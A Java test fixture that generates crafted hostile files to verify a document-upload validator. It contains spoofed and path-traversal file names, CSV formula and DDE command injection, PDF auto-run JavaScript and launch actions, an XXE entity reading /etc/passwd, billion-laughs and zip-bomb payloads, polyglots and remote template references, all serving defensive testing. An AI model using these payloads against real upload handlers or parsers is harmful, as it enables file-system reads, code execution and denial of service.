package org.hemicycle.responsepolicy.document;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hemicycle.responsepolicy.document.DocumentRule.ACTIVE_CONTENT;
import static org.hemicycle.responsepolicy.document.DocumentRule.DECLARES_ENTITIES;
import static org.hemicycle.responsepolicy.document.DocumentRule.EMPTY;
import static org.hemicycle.responsepolicy.document.DocumentRule.ENCRYPTED;
import static org.hemicycle.responsepolicy.document.DocumentRule.EXTENSION_AND_CONTENT_DIFFER;
import static org.hemicycle.responsepolicy.document.DocumentRule.EXTERNAL_REFERENCE;
import static org.hemicycle.responsepolicy.document.DocumentRule.MALWARE;
import static org.hemicycle.responsepolicy.document.DocumentRule.NAME_UNUSABLE;
import static org.hemicycle.responsepolicy.document.DocumentRule.SEVERAL_FORMATS;
import static org.hemicycle.responsepolicy.document.DocumentRule.TOO_LARGE;
import static org.hemicycle.responsepolicy.document.DocumentRule.TYPE_NOT_TAKEN;
import static org.hemicycle.responsepolicy.document.DocumentRule.UNPACKS_TOO_LARGE;
import static org.hemicycle.responsepolicy.document.DocumentRule.UNREADABLE;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.util.Arrays;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;

/** Files made to do harm, and the rule each breaks. Written anew for every test: none lies in the repository. */
final class HostileFiles {

    /** @param what says which trick it is */
    record Hostile(String what, String name, Supplier<InputStream> content, DocumentRule breaks) {

        @Override
        public String toString() {
            return what;
        }
    }

    private HostileFiles() {}

    static Stream<Hostile> all() {
        return Stream.of(names(), types(), texts(), pictures(), pdfs(), offices(), polyglots(), sizes())
                .flatMap(part -> part);
    }

    static Hostile file(String what, String name, byte[] content, DocumentRule breaks) {
        return new Hostile(what, name, () -> new ByteArrayInputStream(content), breaks);
    }

    private static Hostile text(String what, String name, String content, DocumentRule breaks) {
        return file(what, name, content.getBytes(UTF_8), breaks);
    }

    private static Hostile docx(String what, Map<String, byte[]> parts, DocumentRule breaks) {
        return file(what, "letter.docx", Zips.zip(parts), breaks);
    }

    private static Stream<Hostile> names() {
        var pdf = Pdfs.plain();
        return Stream.of(
                file("name turned around by an override", "letter\u202Efdp.exe.pdf", pdf, NAME_UNUSABLE),
                file("name with an invisible joiner", "let\u200Bter.pdf", pdf, NAME_UNUSABLE),
                file("name that is a path", "../../etc/cron.d/letter.pdf", pdf, NAME_UNUSABLE),
                file("name that is a Windows path", "C:\\letter.pdf", pdf, NAME_UNUSABLE),
                file("name with a null", "letter.php\0.pdf", pdf, NAME_UNUSABLE),
                file("name with a line break", "letter\r\nSet-Cookie: x.pdf", pdf, NAME_UNUSABLE),
                file("name without a stem", ".pdf", pdf, NAME_UNUSABLE),
                file("name too long", "x".repeat(200) + ".pdf", pdf, NAME_UNUSABLE),
                file("no extension", "letter", pdf, NAME_UNUSABLE),
                file("second extension that runs", "letter.pdf.exe", pdf, TYPE_NOT_TAKEN),
                file("macro document by name", "letter.docm", Zips.zip(Zips.docx()), TYPE_NOT_TAKEN));
    }

    private static Stream<Hostile> types() {
        return Stream.of(
                text("script in a drawing", "map.svg", "<svg><script>alert(1)</script></svg>", TYPE_NOT_TAKEN),
                text("drawing called a picture", "map.png", "<svg onload='alert(1)'/>", EXTENSION_AND_CONTENT_DIFFER),
                file("program called a text", "letter.txt", program(), EXTENSION_AND_CONTENT_DIFFER),
                file("program called a document", "letter.pdf", program(), EXTENSION_AND_CONTENT_DIFFER),
                file("picture called a document", "letter.pdf", Pictures.png(), EXTENSION_AND_CONTENT_DIFFER),
                file("document called a picture", "map.jpg", Pdfs.plain(), EXTENSION_AND_CONTENT_DIFFER),
                file(
                        "archive called a text document",
                        "letter.docx",
                        Zips.zip(Map.of("a.txt", new byte[9])),
                        EXTENSION_AND_CONTENT_DIFFER),
                file(
                        "spreadsheet's name on a text document",
                        "list.xlsx",
                        Zips.zip(Zips.docx()),
                        EXTENSION_AND_CONTENT_DIFFER),
                file("encrypted office container", "letter.docx", ole(), EXTENSION_AND_CONTENT_DIFFER),
                text(
                        "page called a text",
                        "letter.txt",
                        "<!DOCTYPE html><html><script>x</script></html>",
                        EXTENSION_AND_CONTENT_DIFFER),
                file("nothing", "letter.pdf", new byte[0], EMPTY));
    }

    private static Stream<Hostile> texts() {
        return Stream.of(
                text(
                        "script behind harmless words",
                        "letter.txt",
                        "Dear all,\n".repeat(20) + "<script>x()</script>",
                        ACTIVE_CONTENT),
                text("formula that calls a program", "list.csv", "name,mark\n=cmd|' /C calc'!A0,1\n", ACTIVE_CONTENT),
                text("formula behind quotes", "list.csv", "a,b\n1,\"@SUM(1+1)*cmd\"\n", ACTIVE_CONTENT),
                file(
                        "text that is none",
                        "letter.txt",
                        "binary\0\0\1\2\3".getBytes(UTF_8),
                        EXTENSION_AND_CONTENT_DIFFER),
                file("broken UTF-8", "letter.txt", new byte[] {'a', 'b', (byte) 0xc3, (byte) 0x28, 'c'}, UNREADABLE),
                text("test virus", "letter.txt", eicar(), MALWARE),
                docx("test virus inside a document", Zips.docx("word/notes.xml", eicar()), MALWARE));
    }

    private static Stream<Hostile> pictures() {
        var jpeg = Pictures.jpeg();
        var png = Pictures.png();
        var bent = png.clone();
        bent[20] ^= 1;
        return Stream.of(
                file("picture bomb by size", "map.png", Pictures.pngOf(60_000, 60_000), UNPACKS_TOO_LARGE),
                file("picture bomb by packing", "map.png", Pictures.pngUnpackingTo(40 << 20), UNPACKS_TOO_LARGE),
                file("picture cut short", "map.jpg", Arrays.copyOf(jpeg, jpeg.length / 2), UNREADABLE),
                file("PNG cut short", "map.png", Arrays.copyOf(png, png.length - 20), UNREADABLE),
                file("PNG with a wrong sum", "map.png", bent, UNREADABLE));
    }

    private static Stream<Hostile> pdfs() {
        var whole = Pdfs.plain();
        return Stream.of(
                pdf("script on opening", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""),
                pdf("program started", "/OpenAction << /S /Launch /F (cmd.exe) >>", ""),
                pdf("actions of a page", "", "/AA << /O << /S /URI /URI (http://x.test) >> >>"),
                pdf(
                        "form that is sent",
                        "",
                        "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://x.test) >> >>]"),
                pdf("embedded file", "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", ""),
                pdf("form in XML", "/AcroForm << /XFA [(a) 4 0 R] >>", ""),
                file(
                        "document elsewhere",
                        "letter.pdf",
                        Pdfs.pdf("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share) >>", ""),
                        EXTERNAL_REFERENCE),
                file(
                        "stream elsewhere",
                        "letter.pdf",
                        Pdfs.pdf("", "/Contents 4 0 R", Pdfs.stream("/F (http://x.test/a)", "q Q")),
                        EXTERNAL_REFERENCE),
                file("encrypted document", "letter.pdf", encrypted(), ENCRYPTED),
                file("document cut short", "letter.pdf", Arrays.copyOf(whole, whole.length - 60), UNREADABLE),
                file("head of a document alone", "letter.pdf", "%PDF-1.7\n%%EOF\n".getBytes(UTF_8), UNREADABLE),
                file("nested without end", "letter.pdf", Pdfs.pdf("/X " + "[".repeat(200_000), ""), UNREADABLE));
    }

    private static Hostile pdf(String what, String catalog, String page) {
        return file("PDF: " + what, "letter.pdf", Pdfs.pdf(catalog, page), ACTIVE_CONTENT);
    }

    private static Stream<Hostile> offices() {
        var external =
                "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
                        + " Target=\"http://x.test/t.dotm\" TargetMode=\"External\"/>";
        return Stream.of(
                docx("macro", Zips.docx("word/vbaProject.bin", "x"), ACTIVE_CONTENT),
                docx(
                        "macro by type",
                        Zips.docx(
                                "[Content_Types].xml",
                                Zips.types("application/vnd.ms-word.document.macroEnabled.main+xml")),
                        ACTIVE_CONTENT),
                docx("embedded object", Zips.docx("word/embeddings/oleObject1.bin", "x"), ACTIVE_CONTENT),
                docx("page inside", Zips.docx("word/part.html", "<script>"), ACTIVE_CONTENT),
                docx(
                        "template from elsewhere",
                        Zips.docx("word/_rels/settings.xml.rels", Zips.rels(external.formatted("attachedTemplate"))),
                        EXTERNAL_REFERENCE),
                docx(
                        "picture from elsewhere",
                        Zips.docx("word/_rels/document.xml.rels", Zips.rels(external.formatted("image"))),
                        EXTERNAL_REFERENCE),
                docx(
                        "link to a share",
                        Zips.docx(
                                "word/_rels/document.xml.rels",
                                Zips.rels(external.formatted("hyperlink").replace("http://x.test", "file://host"))),
                        EXTERNAL_REFERENCE),
                docx(
                        "field that runs a program",
                        Zips.docx(
                                "word/document.xml",
                                Zips.document("<w:p><w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r></w:p>")),
                        EXTERNAL_REFERENCE),
                docx("a billion laughs", Zips.docx("word/document.xml", laughs()), DECLARES_ENTITIES),
                docx(
                        "a file read by entity",
                        Zips.docx(
                                "word/document.xml",
                                "<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><a>&f;</a>"),
                        DECLARES_ENTITIES),
                docx(
                        "a type from elsewhere",
                        Zips.docx("word/document.xml", "<!DOCTYPE a SYSTEM 'http://x.test/a.dtd'><a/>"),
                        DECLARES_ENTITIES),
                docx("elements without end", Zips.docx("word/document.xml", "<a>".repeat(100_000)), UNREADABLE),
                docx("zip bomb", Zips.docx("word/document.xml", " ".repeat(40 << 20)), UNPACKS_TOO_LARGE),
                docx("nested zip bomb", nested(), ACTIVE_CONTENT),
                docx("part that climbs out", Zips.docx("../../outside.xml", "<a/>"), UNREADABLE),
                docx("too many parts", many(), UNPACKS_TOO_LARGE));
    }

    private static Stream<Hostile> polyglots() {
        var zip = Zips.zip(Map.of("a.class", new byte[50]));
        var docx = Zips.zip(Zips.docx());
        return Stream.of(
                file("picture and archive", "map.jpg", joined(Pictures.jpeg(), zip), SEVERAL_FORMATS),
                file("PNG and archive", "map.png", joined(Pictures.png(), zip), SEVERAL_FORMATS),
                file("PDF and archive", "letter.pdf", joined(Pdfs.plain(), zip), SEVERAL_FORMATS),
                file(
                        "PDF and page",
                        "letter.pdf",
                        joined(Pdfs.plain(), "<script>x</script>".getBytes(UTF_8)),
                        SEVERAL_FORMATS),
                file(
                        "picture and page",
                        "map.jpg",
                        joined(Pictures.jpeg(), "<?php x();".getBytes(UTF_8)),
                        SEVERAL_FORMATS),
                file(
                        "PDF inside a picture",
                        "map.png",
                        Pictures.withChunk(Pictures.png(), "teXt", Pdfs.plain()),
                        SEVERAL_FORMATS),
                file("document with something behind it", "letter.docx", joined(docx, new byte[40]), SEVERAL_FORMATS),
                file("two documents in one", "letter.docx", joined(docx, docx), SEVERAL_FORMATS));
    }

    private static Stream<Hostile> sizes() {
        return Stream.of(
                new Hostile("huge and sparse", "letter.pdf", () -> new Endless("%PDF-1.7\n", 5L << 30), TOO_LARGE),
                new Hostile("huge text", "letter.txt", () -> new Endless("words", 5L << 30, ' '), TOO_LARGE));
    }

    private static byte[] program() {
        return joined(
                "MZ\u0090\0\3\0\0\0\4\0\0\0".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1), new byte[500]);
    }

    private static byte[] ole() {
        var head =
                new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1};
        return joined(joined(head, new byte[504]), "EncryptedPackage".getBytes(UTF_16LE));
    }

    static String eicar() {
        return String.join("$", "X5O!P%@AP[4\\PZX54(P^)7CC)7}", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!", "H+H*");
    }

    private static String laughs() {
        var text = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 'ha'>");
        for (int level = 1; level < 30; level++) {
            text.append("<!ENTITY l%d '&l%d;&l%d;'>".formatted(level, level - 1, level - 1));
        }
        return text + "]><a>&l29;</a>";
    }

    private static Map<String, byte[]> nested() {
        var inner = Zips.zip(Map.of("zeros", new byte[8 << 20]));
        var parts = Zips.docx();
        parts.put("word/media/inner.zip", Zips.zip(Map.of("a.zip", inner, "b.zip", inner)));
        return parts;
    }

    private static Map<String, byte[]> many() {
        var parts = Zips.docx();
        for (int number = 0; number < 4500; number++) {
            Zips.put(parts, "word/part%d.xml".formatted(number), "<a/>");
        }
        return parts;
    }

    private static byte[] encrypted() {
        try (var document = new org.apache.pdfbox.pdmodel.PDDocument()) {
            document.addPage(new org.apache.pdfbox.pdmodel.PDPage());
            document.protect(new org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy(
                    "owner", "reader", new org.apache.pdfbox.pdmodel.encryption.AccessPermission()));
            var out = new java.io.ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (java.io.IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
    }

    static byte[] joined(byte[] one, byte[] two) {
        var both = Arrays.copyOf(one, one.length + two.length);
        System.arraycopy(two, 0, both, one.length, two.length);
        return both;
    }
}
